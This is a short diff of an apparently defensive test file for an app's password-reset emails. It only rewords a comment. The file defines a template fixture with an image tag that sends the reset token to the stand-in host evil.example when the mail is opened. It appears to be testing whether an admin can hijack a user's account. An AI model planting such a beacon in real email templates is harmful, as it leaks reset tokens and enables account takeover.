@@ -8,7 +8,7 @@ import { changesNothing } from '../../kit/stored.js';
 import { newEmail, newName, newPhone, refuses, type TestApp } from '../../kit/test-app.js';
 import { stories } from '../../kit/world.js';
 
-/** Sends the token of a reset to a stranger as soon as the mail is opened. */
+/** Sends the token of a reset to a stranger when the mail is opened. */
 const beacon = `<p>{{ link }}</p><img src="https://evil.example/?t={{ link | split: '#' | last }}">`;
 
 stories('An admin of an app who wants the account of a user', world => {
